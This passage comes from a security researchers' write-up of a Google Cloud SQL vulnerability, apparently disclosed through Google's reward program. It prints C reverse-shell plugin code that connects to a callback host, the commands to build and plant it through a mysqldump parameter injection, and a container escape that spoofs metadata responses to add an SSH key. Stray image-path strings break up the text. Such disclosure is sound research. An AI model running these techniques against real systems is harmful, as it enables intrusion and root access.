#include <stdlib.h>#include <sys/socket.h>
#include <unistd.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netdb.h>
#include <arpa/inet.h>
#include <netinet/ip.h>

void _init() {
  FILE * fp;
  int fd;
  int sock;
  int port = 1234;
  struct sockaddr_in addr;
  char * callback = "";
  char mesg[]= "Shell on speckles>\n";
  char shell[] = "/bin/sh";
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = inet_addr(callback);
  fd = socket(AF_INET, SOCK_STREAM, 0);
  connect(fd, (struct sockaddr*)&addr, sizeof(addr));

  send(fd, mesg, sizeof(mesg), 0);

  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl(shell, "sshd", 0, NULL);

We compile it into a sharedobject with the following command:

gcc-fPIC -shared -o evil_plugin.so evil_plugin.c -nostartfiles

On our locally running database server, we now insert the evil_plugin.so file into a longblob table:

mysql -h localhost -u root

>USE files
> CREATE TABLE `data` (
  `exe` longblob
> insert into data VALUES(LOAD_FILE('evil_plugin.so'));

Our malicious database is now done! We export it to a .sql file with mysqldump:

Mysqldump -h localhost -u root files > files.sql

Next we store files.sql in a storage bucket. After that, we create a databasecalled ‘files’ in Cloud SQL and import the malicious database dump into it.

Dropping a Shell

With everything prepared, all that’s left now is writing the evil_plugin.so to /mysql/tmp before triggering the reverse shell by injecting ’–plugin-dir=/mysql/tmp/ –default-auth=evil_plugin’ as parameters to mysqldump that runs server-side.

To accomplish this we once again run the CSV export feature, this time against the ‘files’ database while passing the following data as it’s query argument:

SELECT * FROM data INTO DUMPFILE '/mysql/tmp/evil_plugin.so' #

Now we run a regular export against the MySQL database again, and modify the request to the API with Burp to pass the correct parameters to mysqldump:

Success! On our listening netcat we are now dropped into a reverse shell.

Fun fact

Not long after we started exploring the environment we landed our shell in we noticed a new file in the /mysql/tmp directory named ‘greetings.txt’:

Google SRE (Site Reliability Engineering) appeared to be on to us  It appeared that during our attempts we crashed a few of our own instances which alarmed them. Wegot into touch with SRE via e-mail and informed them about our little adventure and they kindly replied back.

However our journey did not end here, since it appeared that we are trapped inside a Docker container, running nothing more than the bare minimum that’s needed to export our database. We needed to find a way to escape and we needed it quickly, SRE knows what we are doing and now Google might be working on a patch.

Escaping to the host

The container that we had access to was running unprivileged, meaning that no easy escape was available. Upon inspecting the network configuration we noticed that we had access to eth0, which in this case had the internal IP address of the container attached to it.

This was due to the fact that the container was configured with the Docker host networking driver (–network=host). When running a docker container without any special privileges it’s network stack is isolated from the host. When you run a container in host network mode that’s no longer the case. The container does no longer get its own IP address, but instead binds all services directly to the hosts IP. Furthermore we can intercept ALL network traffic that the host is sending and receiving on eth0  (tcpdump -i eth0).

The Google Guest Agent (/usr/bin/google_guest_agent)

When you inspect network traffic on a regular Google Compute Engine instance you will see a lot of plain HTTP requests being directed to the metadata instance on One servicethat makes such requests is the Google Guest Agent. It runs by default on any GCE instance that you configure. An example of the requests it makes can be found below.

The Google Guest Agent monitors the metadata for changes. One of the properties it looks for is the SSH public keys. When a new public SSH key is found in the metadata, the guest agent will write this public key to the user’s .authorized_key file, creating a new user if necessary and adding it to sudoers.

The way the Google Guest Agent monitors for changes is through a call to retrieve all metadata values recursively (GET /computeMetadata/v1/?recursive=true), indicating to the metadata server to only send a response when there is any change with respect to the last retrieved metadata values, identified by its Etag (wait_for_change=true&last_etag=<ETAG>).

This request also includes a timeout (timeout_sec=<TIME>), so if a change does not occur within the specified amount of time, the metadata server responds with the unchanged values.

Executing the attackTaking into consideration the access to the host network, and the behavior of the Google Guest Agent, we decided that spoofing the Metadata server SSH keys response would be the easiest way to escape our container.

Since ARP spoofing does not work on Google Compute Engine networks, we used our own modified version of rshijack (diff) to send our spoofed response.

This modified version of rshijack allowed us to pass the ACK and SEQ numbers as command-line arguments, saving time and allowing us to spoof a response before the real Metadata response came.

We also wrote a small Shell script that would return a specially crafted payload that would trigger the Google Guest Agent to create the user “wouter”, with our own public key in its authorized_keys file.

This script receives the ETag as a parameter, since by keeping the same ETag, the Metadata server wouldn’t immediately tell the Google Guest Agent that the metadata values were different on the next response, instead waiting the specified amount of seconds in timeout_sec.

To achieve the spoofing, we watched requests to the Metadata server with tcpdump (tcpdump -S -i eth0 ‘host and port 80’ &), waiting for a line that looked like this:

<TIME> IP <LOCAL_IP>.<PORT> > Flags [P.], seq <NUM>:<TARGET_ACK>, ack <TARGET_SEQ>, win <NUM>, length <NUM>: HTTP: GET/computeMetadata/v1/?timeout_sec=<SECONDS>&last_etag=<ETAG>&alt=json&recursive=True&wait_for_change=True HTTP/1.1

As soon as we saw that value, we quickly ran rshijack, with our fake Metadata response payload, and ssh’ing into the host:

fakeData.sh <ETAG> | rshijack -q eth0 <LOCAL_IP>:<PORT> <TARGET_SEQ> <TARGET_ACK>;ssh -i id_rsa -o StrictHostKeyChecking=no wouter@localhost

Most of the time, we were able to type fast enough to get a successful SSH login :).

Once we accomplished that, we had full access to the host VM (Being able to execute commands as root through sudo).

Impact & Conclusions

Once we escaped to the host VM, we were able to fully research the Cloud SQL instance.

It wasn’t as exciting as we expected, since the host did not have much beyond the absolutely necessary stuff to properly execute MySQL andcommunicate with the Cloud SQL API.

One of our interesting findings was the iptables rules, since when you enable Private IP access (Which cannot be disabled afterwards), access to the MySQL port is not only added for the IP addresses of the specified VPC network, but instead added for the full IP range, which includes other Cloud SQL instances.

Therefore, if a customer ever enabled Private IP access to their instance, they could betargeted by an attacker-controlled Cloud SQL instance. This could go wrong very quickly if the customer solely relied on the instance being isolated from the external world, and didn’tprotect it with a proper password.

Furthermore,the Google VRP teamexpressed concern since it might be possible to escalate IAM privileges using the Cloud SQL serviceaccount attached to theunderlying Compute Engine instance